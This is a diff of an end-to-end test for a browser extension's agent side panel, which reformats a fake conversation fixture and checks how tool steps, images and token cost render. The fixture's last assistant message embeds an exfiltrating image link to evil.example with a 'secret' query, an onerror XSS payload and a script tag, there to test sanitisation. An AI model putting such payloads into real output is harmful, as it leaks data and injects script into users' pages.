@@ -18,22 +18,94 @@ let panel: Page;
 const usage = { input: 1200, output: 300, cacheRead: 800, cacheWrite: 0, costUsd: 0.0123 };
 const conversation = [
   { role: 'user', id: 'u1', createdAt: 1, content: [{ type: 'text', text: 'Find pet 5 and tell me its name' }] },
-  { role: 'assistant', id: 'a1', createdAt: 2, stopReason: 'tool_use', provider: 'fake', model: 'fake-model', usage, content: [{ type: 'toolCall', id: 'c0', name: 'snapshot', args: {} }] },
-  { role: 'toolResult', id: 'r0', createdAt: 3, toolCallId: 'c0', toolName: 'snapshot', isError: false, kind: 'snapshot', text: '<untrusted_page>\nbutton "Try it out" e12\ntextbox "petId" e13\n</untrusted_page>' },
-  { role: 'assistant', id: 'a2', createdAt: 4, stopReason: 'tool_use', provider: 'fake', model: 'fake-model', usage, content: [{ type: 'text', text: 'Opening the operation.' }, { type: 'toolCall', id: 'c1', name: 'click', args: { ref: 'e12' } }] },
-  { role: 'toolResult', id: 'r1', createdAt: 5, toolCallId: 'c1', toolName: 'click', isError: false, kind: 'screenshot', text: 'Clicked. The page changed.', image: { type: 'image', mediaType: 'image/png', data: PNG_1PX } },
-  { role: 'assistant', id: 'a3', createdAt: 6, stopReason: 'tool_use', provider: 'fake', model: 'fake-model', content: [{ type: 'toolCall', id: 'c2', name: 'type', args: { ref: 'e13', text: '5' } }] },
-  { role: 'toolResult', id: 'r2', createdAt: 7, toolCallId: 'c2', toolName: 'type', isError: true, kind: 'other', text: 'Element e13 is disabled. Hint: click Try it out first.' },
   {
-    role: 'assistant', id: 'a4', createdAt: 8, stopReason: 'stop', provider: 'fake', model: 'fake-model',
-    content: [{ type: 'text', text: 'The pet is **doggie**.\n\n```sh\ncurl /pet/5\n```\n\n![leak](https://evil.example/x.png?q=secret) <img src=x onerror="window.pwned=1"> [docs](https://example.com/docs) <script>window.pwned=2</script>' }],
+    role: 'assistant',
+    id: 'a1',
+    createdAt: 2,
+    stopReason: 'tool_use',
+    provider: 'fake',
+    model: 'fake-model',
+    usage,
+    content: [{ type: 'toolCall', id: 'c0', name: 'snapshot', args: {} }],
+  },
+  {
+    role: 'toolResult',
+    id: 'r0',
+    createdAt: 3,
+    toolCallId: 'c0',
+    toolName: 'snapshot',
+    isError: false,
+    kind: 'snapshot',
+    text: '<untrusted_page>\nbutton "Try it out" e12\ntextbox "petId" e13\n</untrusted_page>',
+  },
+  {
+    role: 'assistant',
+    id: 'a2',
+    createdAt: 4,
+    stopReason: 'tool_use',
+    provider: 'fake',
+    model: 'fake-model',
+    usage,
+    content: [
+      { type: 'text', text: 'Opening the operation.' },
+      { type: 'toolCall', id: 'c1', name: 'click', args: { ref: 'e12' } },
+    ],
+  },
+  {
+    role: 'toolResult',
+    id: 'r1',
+    createdAt: 5,
+    toolCallId: 'c1',
+    toolName: 'click',
+    isError: false,
+    kind: 'screenshot',
+    text: 'Clicked. The page changed.',
+    image: { type: 'image', mediaType: 'image/png', data: PNG_1PX },
+  },
+  {
+    role: 'assistant',
+    id: 'a3',
+    createdAt: 6,
+    stopReason: 'tool_use',
+    provider: 'fake',
+    model: 'fake-model',
+    content: [{ type: 'toolCall', id: 'c2', name: 'type', args: { ref: 'e13', text: '5' } }],
+  },
+  {
+    role: 'toolResult',
+    id: 'r2',
+    createdAt: 7,
+    toolCallId: 'c2',
+    toolName: 'type',
+    isError: true,
+    kind: 'other',
+    text: 'Element e13 is disabled. Hint: click Try it out first.',
+  },
+  {
+    role: 'assistant',
+    id: 'a4',
+    createdAt: 8,
+    stopReason: 'stop',
+    provider: 'fake',
+    model: 'fake-model',
+    content: [
+      {
+        type: 'text',
+        text: 'The pet is **doggie**.\n\n```sh\ncurl /pet/5\n```\n\n![leak](https://evil.example/x.png?q=secret) <img src=x onerror="window.pwned=1"> [docs](https://example.com/docs) <script>window.pwned=2</script>',
+      },
+    ],
   },
 ];
 
 beforeAll(async () => {
   servers = await startFixtureServers();
   ext = await launchWithExtension();
-  await writeSettings(ext, { providers: [{ id: 'p1', kind: 'openai-compatible', baseUrl: 'http://127.0.0.1:9/v1', model: 'fake-model', apiKey: 'test' }], defaultProviderId: 'p1' });
+  await writeSettings(ext, {
+    providers: [
+      { id: 'p1', kind: 'openai-compatible', baseUrl: 'http://127.0.0.1:9/v1', model: 'fake-model', apiKey: 'test' },
+    ],
+    defaultProviderId: 'p1',
+  });
   const page = await ext.newPage(`${servers.main.url}/test/fixtures/pages/child.html?name=render`);
   tabId = await ext.tabIdOf(page);
   await ext.inWorker(
@@ -51,8 +123,16 @@ afterAll(async () => {
 describe('the side panel renders a conversation', () => {
   it('shows one compact line per tool call, named after the element on the page', async () => {
     const lines = await panel.$$eval('.step summary .step-text', (nodes) => nodes.map((n) => n.textContent));
-    expect(lines).toEqual(['Read the page structure', "Clicked button 'Try it out'", "Typed '5' into text box 'petId'"]);
-    expect(await panel.$$eval('.step', (nodes) => nodes.map((n) => n.className))).toEqual(['step step-done', 'step step-done', 'step step-error']);
+    expect(lines).toEqual([
+      'Read the page structure',
+      "Clicked button 'Try it out'",
+      "Typed '5' into text box 'petId'",
+    ]);
+    expect(await panel.$$eval('.step', (nodes) => nodes.map((n) => n.className))).toEqual([
+      'step step-done',
+      'step step-done',
+      'step step-error',
+    ]);
   });
 
   it('opens a step to its arguments, result and screenshot thumbnail, by keyboard', async () => {
@@ -83,7 +163,7 @@ describe('the side panel renders a conversation', () => {
     expect(await panel.$eval('.markdown img', (i) => i.getAttribute('referrerpolicy'))).toBe('no-referrer');
   });
 
-  it('shows the conversation\'s token use and estimated cost', async () => {
+  it("shows the conversation's token use and estimated cost", async () => {
     expect(await panel.$eval('.usage', (n) => n.textContent)).toBe('4,000 tokens in, 600 out · 1,600 cached · ≈ $0.02');
   });
 
